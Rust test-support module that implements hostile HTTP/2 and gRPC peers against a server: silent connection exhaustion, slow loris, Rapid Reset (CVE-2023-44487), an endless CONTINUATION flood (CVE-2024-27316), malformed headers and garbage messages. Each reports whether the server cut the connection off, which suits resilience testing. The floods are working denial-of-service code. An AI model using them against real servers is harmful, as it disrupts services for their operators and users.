//! Peers that mean no good, or know no better. Each returns what became of its connections, so that a suite
//! or a test can say whether it was cut off.

use std::{io, net::SocketAddr, time::Duration};

use bytes::Bytes;
use h2::Reason;
use http::Request;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    task::JoinSet,
    time::{Instant, sleep, timeout},
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// For one attack. What takes longer is given up.
const PATIENCE: Duration = Duration::from_secs(30);

/// Opens so many connections and says nothing on them. Fewer come back if the server, or its kernel, takes no
/// more.
pub async fn silent(server: SocketAddr, connections: usize) -> Vec<TcpStream> {
    let mut open = Vec::new();
    for _ in 0..connections {
        match timeout(Duration::from_secs(10), TcpStream::connect(server)).await {
            Ok(Ok(stream)) => open.push(stream),
            _ => break,
        }
    }
    open
}

/// How many of these connections the server has closed within `patience`.
pub async fn closed(connections: Vec<TcpStream>, patience: Duration) -> usize {
    let mut ends = JoinSet::new();
    for mut stream in connections {
        ends.spawn(async move {
            let mut sink = [0; 512];
            timeout(patience, async { while matches!(stream.read(&mut sink).await, Ok(n) if n > 0) {} })
                .await
                .is_ok()
        });
    }
    let mut closed = 0;
    while let Some(ended) = ends.join_next().await {
        closed += usize::from(ended.unwrap_or(false));
    }
    closed
}

/// Opens so many connections, greets on each as it should, and then takes its time with the headers of its
/// first request: a byte now and then, never the last. How many of them the server has cut off in time.
pub async fn slow_loris(server: SocketAddr, connections: usize, patience: Duration) -> usize {
    let mut peers = JoinSet::new();
    for _ in 0..connections {
        peers.spawn(async move { timeout(patience, one_slow_loris(server)).await.is_ok() });
    }
    let mut cut_off = 0;
    while let Some(ended) = peers.join_next().await {
        cut_off += usize::from(ended.unwrap_or(false));
    }
    cut_off
}

/// Returns when it was cut off.
async fn one_slow_loris(server: SocketAddr) -> io::Result<()> {
    let mut stream = greet(server).await?;
    stream.write_all(&head(16_000, HEADERS, END_STREAM, 1)).await?;
    let (mut read, mut write) = stream.split();
    let hearing = async {
        let mut sink = [0; 512];
        while read.read(&mut sink).await? > 0 {}
        Ok(())
    };
    let dripping = async {
        loop {
            write.write_all(&[0]).await?;
            sleep(Duration::from_millis(500)).await;
        }
    };
    tokio::select! {
        ended = hearing => ended,
        ended = dripping => ended,
    }
}

async fn greet(server: SocketAddr) -> io::Result<TcpStream> {
    let mut stream = TcpStream::connect(server).await?;
    stream.set_nodelay(true)?;
    stream.write_all(PREFACE).await?;
    stream.write_all(&head(0, SETTINGS, 0, 0)).await?;
    Ok(stream)
}

/// The head of a frame.
fn head(length: u32, kind: u8, flags: u8, stream: u32) -> [u8; 9] {
    let [_, a, b, c] = length.to_be_bytes();
    let [d, e, f, g] = stream.to_be_bytes();
    [a, b, c, kind, flags, d, e, f, g]
}

/// What became of a flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Flood {
    /// Requests that were sent.
    pub sent: usize,
    /// The server put an end to it.
    pub cut_off: bool,
}

/// On one connection, opens so many requests and resets each at once (CVE-2023-44487).
///
/// # Errors
/// There is no connection.
pub async fn rapid_reset(server: SocketAddr, path: &str, requests: usize) -> io::Result<Flood> {
    let stream = TcpStream::connect(server).await?;
    let mut builder = h2::client::Builder::new();
    builder.max_concurrent_reset_streams(1 << 20).reset_stream_duration(Duration::from_millis(100));
    let (mut sender, connection) = builder.handshake::<_, Bytes>(stream).await.map_err(io::Error::other)?;
    let mut driving = JoinSet::new();
    driving.spawn(async move {
        // Its end shows where the next request is sent.
        let _ = connection.await;
    });
    let mut sent = 0;
    let flood = async {
        while sent < requests {
            sender = sender.clone().ready().await?;
            let (_, mut body) = sender.send_request(request(server, path), false)?;
            body.send_reset(Reason::CANCEL);
            sent += 1;
            if sent % 256 == 0 {
                tokio::task::yield_now().await;
            }
        }
        // A question that must be answered, or the connection has gone.
        sender = sender.clone().ready().await?;
        let (answer, _) = sender.send_request(request(server, path), true)?;
        answer.await.map(drop)
    };
    let ended: Result<Result<(), h2::Error>, _> = timeout(PATIENCE, flood).await;
    Ok(Flood { sent, cut_off: matches!(ended, Ok(Err(_))) })
}

fn request(server: SocketAddr, path: &str) -> Request<()> {
    let mut request = Request::new(());
    *request.method_mut() = http::Method::POST;
    // Both are of our own making; where they are none the request goes to nobody, and is refused.
    if let Ok(uri) = format!("http://{server}{path}").parse() {
        *request.uri_mut() = uri;
    }
    request.headers_mut().insert("content-type", http::HeaderValue::from_static("application/grpc"));
    request.headers_mut().insert("te", http::HeaderValue::from_static("trailers"));
    request
}

/// On one connection, sends so many requests whose headers no client may send.
///
/// # Errors
/// There is no connection.
pub async fn malformed_headers(server: SocketAddr, requests: usize) -> io::Result<Flood> {
    // GET http / and a header whose name is in capitals.
    let block = [&[0x82, 0x86, 0x84, 0x00, 0x03][..], b"BAD", &[0x01, b'x']].concat();
    let length = u32::try_from(block.len()).unwrap_or(0);
    flood(server, requests, |n| {
        let stream = u32::try_from(n).unwrap_or(0) * 2 + 1;
        [&head(length, HEADERS, END_STREAM | END_HEADERS, stream)[..], &block].concat()
    })
    .await
}

/// On one connection, begins the headers of a request and goes on with them, in so many frames and without an
/// end (CVE-2024-27316).
///
/// # Errors
/// There is no connection.
pub async fn endless_headers(server: SocketAddr, frames: usize) -> io::Result<Flood> {
    // A header of 125 bytes, over and over.
    let one = [&[0x00, 0x01, b'a', 0x78][..], &[b'x'; 120]].concat();
    let block = one.repeat(100);
    let length = u32::try_from(block.len()).unwrap_or(0);
    flood(server, frames, |n| {
        let kind = if n == 0 { HEADERS } else { CONTINUATION };
        [&head(length, kind, 0, 1)[..], &block].concat()
    })
    .await
}

async fn flood(server: SocketAddr, frames: usize, frame: impl Fn(usize) -> Vec<u8>) -> io::Result<Flood> {
    let mut stream = greet(server).await?;
    let (mut read, mut write) = stream.split();
    let mut sent = 0;
    let ended = {
        let sending = async {
            for n in 0..frames {
                write.write_all(&frame(n)).await?;
                sent += 1;
            }
            Ok::<_, io::Error>(())
        };
        let mut sink = vec![0; 16 * 1024];
        let hearing = async { while matches!(read.read(&mut sink).await, Ok(n) if n > 0) {} };
        // All is sent, and still the server may take its time to object.
        let sent_and_heard = async {
            tokio::pin!(hearing);
            tokio::select! {
                biased;
                () = &mut hearing => return true,
                sent = sending => if sent.is_err() { return true },
            }
            timeout(Duration::from_secs(1), hearing).await.is_ok()
        };
        timeout(PATIENCE, sent_and_heard).await
    };
    Ok(Flood { sent, cut_off: ended.unwrap_or(false) })
}

/// Sends messages that are none, each on a connection of its own: how many of them were answered as if they
/// were good, or not at all.
///
/// # Errors
/// There is no connection.
pub async fn garbage(server: SocketAddr, path: &str, seed: u64) -> io::Result<usize> {
    let mut dice = fastrand::Rng::with_seed(seed);
    let mut noise = |length: usize| (0..length).map(|_| dice.u8(..)).collect::<Vec<u8>>();
    let message =
        |flag: u8, length: u32, bytes: Vec<u8>| [&[flag][..], &length.to_be_bytes(), &bytes].concat();
    let messages = [
        // Not protobuf.
        message(0, 64, vec![0xff; 64]),
        // Says it is compressed, by nothing.
        message(1, 64, noise(64)),
        // A flag that there is not.
        message(0x5a, 64, noise(64)),
        // Says it is 4 GiB.
        message(0, u32::MAX, noise(64)),
        // Is 8 MiB.
        message(0, 8 << 20, noise(8 << 20)),
        // Ends before its end.
        message(0, 1_000, noise(10)),
        // Not even a message.
        noise(3),
    ];
    let mut taken = 0;
    for body in messages {
        let status =
            timeout(PATIENCE, post(server, path, body)).await.map_err(|_| io::ErrorKind::TimedOut)?;
        taken += usize::from(!matches!(status, Ok(code) if code != "0"));
    }
    for bytes in [noise(64), noise(64 << 10), [PREFACE, &noise(4 << 10)].concat()] {
        let mut stream = TcpStream::connect(server).await?;
        let begun = Instant::now();
        // It may be closed before all is written.
        let _ = stream.write_all(&bytes).await;
        let _ = stream.shutdown().await;
        let rest = async { while matches!(stream.read(&mut [0; 512]).await, Ok(n) if n > 0) {} };
        if timeout(PATIENCE, rest).await.is_err() {
            return Err(io::Error::other(format!("noise kept a connection for {:?}", begun.elapsed())));
        }
    }
    Ok(taken)
}

/// The gRPC status that a body is answered with.
async fn post(server: SocketAddr, path: &str, body: Vec<u8>) -> Result<String, h2::Error> {
    let stream = TcpStream::connect(server).await.map_err(|_| Reason::CONNECT_ERROR)?;
    let (sender, connection) = h2::client::handshake(stream).await?;
    let mut driving = JoinSet::new();
    driving.spawn(async move {
        let _ = connection.await;
    });
    let (answer, mut out) = sender.ready().await?.send_request(request(server, path), false)?;
    let sending = async {
        let mut left = Bytes::from(body);
        while !left.is_empty() {
            out.reserve_capacity(left.len());
            match std::future::poll_fn(|context| out.poll_capacity(context)).await {
                Some(Ok(room)) => {
                    let piece = left.split_to(room.min(left.len()));
                    if out.send_data(piece, left.is_empty()).is_err() {
                        break;
                    }
                }
                // It was answered before all was sent.
                _ => break,
            }
        }
        std::future::pending::<()>().await;
    };
    let answered = async {
        let (head, mut body) = answer.await?.into_parts();
        while let Some(data) = body.data().await {
            let _ = body.flow_control().release_capacity(data?.len());
        }
        let trailers = body.trailers().await?;
        let status = head.headers.get("grpc-status").cloned();
        let status = status.or_else(|| trailers?.get("grpc-status").cloned());
        Ok(status.and_then(|s| s.to_str().map(str::to_owned).ok()).unwrap_or_default())
    };
    tokio::select! {
        () = sending => Ok(String::new()),
        status = answered => status,
    }
}
